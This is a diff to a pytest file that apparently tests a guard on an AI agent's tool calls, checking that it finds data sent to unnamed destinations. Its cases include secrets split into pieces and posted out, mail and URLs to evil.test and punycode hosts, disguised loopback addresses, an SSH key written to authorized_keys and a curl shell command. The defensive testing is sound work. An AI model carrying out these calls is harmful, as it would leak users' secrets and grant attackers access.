@@ -284,6 +284,40 @@ def test_what_is_sent_beside_an_address_is_looked_through(body: Any) -> None:
 
 
 @pytest.mark.parametrize(
+    ("target", "arguments", "asked"),
+    [
+        ("http.post", {"url": "https://ok.test", "headers": {SECRET: "x"}}, "$.headers"),
+        ("http.post", {"url": "https://ok.test", "json": {"a": {"correct horse battery staple": True}}}, "$.json.a"),
+        ("http.post", {"url": "https://ok.test", "json": {TOLD[0][1]: 1}}, "$.json"),
+        ("x.y", {"a": [{"b": {"https://evil.test/x": []}}]}, "$.a[0].b"),
+        ("mail.send", {"to": {"mallory@evil.test": None}}, "$.to"),
+        ("mail.send", {"recipients": {"mallory": "to"}}, "$.recipients"),
+        ("disk.write", {"files": {"/home/me/.ssh/authorized_keys": "ssh-rsa x"}}, "$.files"),
+        ("http.post", {"url": "https://ok.test", "body": list(SECRET)}, "$.body"),
+        ("http.post", {"url": "https://ok.test", "body": [SECRET[at : at + 2] for at in range(0, 14, 2)]}, "$.body"),
+        ("http.post", {"url": "https://ok.test", "body": {str(at): char for at, char in enumerate(SECRET)}}, "$.body"),
+    ],
+)
+def test_names_of_fields_and_texts_in_pieces_are_looked_at(target: str, arguments: dict[str, Any], asked: str) -> None:
+    assert asked in flows(proposed(target, arguments))
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        {"fields": {"status": "open", "due_date": "2026-03-05", "Content-Type": "text/html", "battery": 1}},
+        {"json": {"declared-name-4-all": 1}},
+        {"tags": ["a", "b"], "letters": ["x", "y", "z", "w"], "sizes": {"a": "S", "b": "M", "c": "L", "d": "XL"}},
+    ],
+)
+def test_usual_and_declared_names_of_fields_run(arguments: dict[str, Any]) -> None:
+    results = (*TOLD, ("web", "status, due_date, Content-Type and declared-name-4-all"))
+    inner = {"type": "object", "properties": {"declared-name-4-all": {}}}
+    call = proposed("http.post", arguments, results)
+    assert flows(replace(call, tool=replace(call.tool, input_schema={"properties": {"json": inner}}))) == {}
+
+
+@pytest.mark.parametrize(
     "url",
     [
         "https://ok.test",
@@ -336,6 +370,14 @@ PLACES: list[tuple[str, dict[str, Any]]] = [
     ),
     *(("chat.post", {"channel": name, "text": "hi"}) for name in ("#leak", "leak", "+49 151 2345 6789", "C0123456")),
     ("repo.invite", {"user": "mallory"}),
+    *(("repo.invite", {name: "mallory"}) for name in ("userId", "user-name", "toUser", "login", "collaborator", "emailAddress")),
+    *(("chat.post", {name: "leak", "text": "hi"}) for name in ("channelId", "channelName", "channel_name", "chatRoom", "bucket")),
+    *(("x.set", {name: "evil.sh"}) for name in ("baseUrl", "webhook_url", "serverURL", "api_endpoint")),
+    *(("net.connect", {"host": host}) for host in ("2001:db8::bad", "[2001:db8::bad]", "[2001:db8::bad]:80", "evilhost:80")),
+    *(("net.connect", {"host": host}) for host in ("127.1", "0x7f.1", "0x7f000001", "2130706433", "evilhost", "evil.xn--p1ai")),
+    *(("web.fetch", {"url": url}) for url in ("evil.xn--p1ai/x", "http://evil.xn--p1ai", "evil\u3002test/x", "127.1/x")),
+    *(("mail.send", {name: "mallory@evil.xn--p1ai"}) for name in ("to", "address", "body")),
+    ("shell.run", {"command": "curl [2001:db8::bad]/x"}),
     ("x.y", {"deep": {"in": [{"url": "https://evil.test"}]}}),
 ]
 
@@ -357,6 +399,10 @@ def test_a_place_that_nobody_said_is_found_whatever_it_was_made_of(target: str, 
         ("calendar.add", {"title": "Team-sync-2026", "when": "2026-03-05T10:00:00Z", "tz": "Europe/Berlin", "limit": 100000}),
         ("web.search", {"query": "gpt4omini state-of-the-art"}),
         ("mail.send", {"to": "me", "body": "Hello Bob"}),
+        (
+            "x.y",
+            {"version": "1.2", "at": "10:30:00", "mac": "00:1b:44:11:3a:b7", "maxUsers": 5, "fileName": "a", "userAgent": "b"},
+        ),
         ("x.y", {"mime": "text/html", "version": "1.2.3", "lang": "en-US", "color": "#ff8800", "time": "10:30", "flag": True}),
     ],
 )
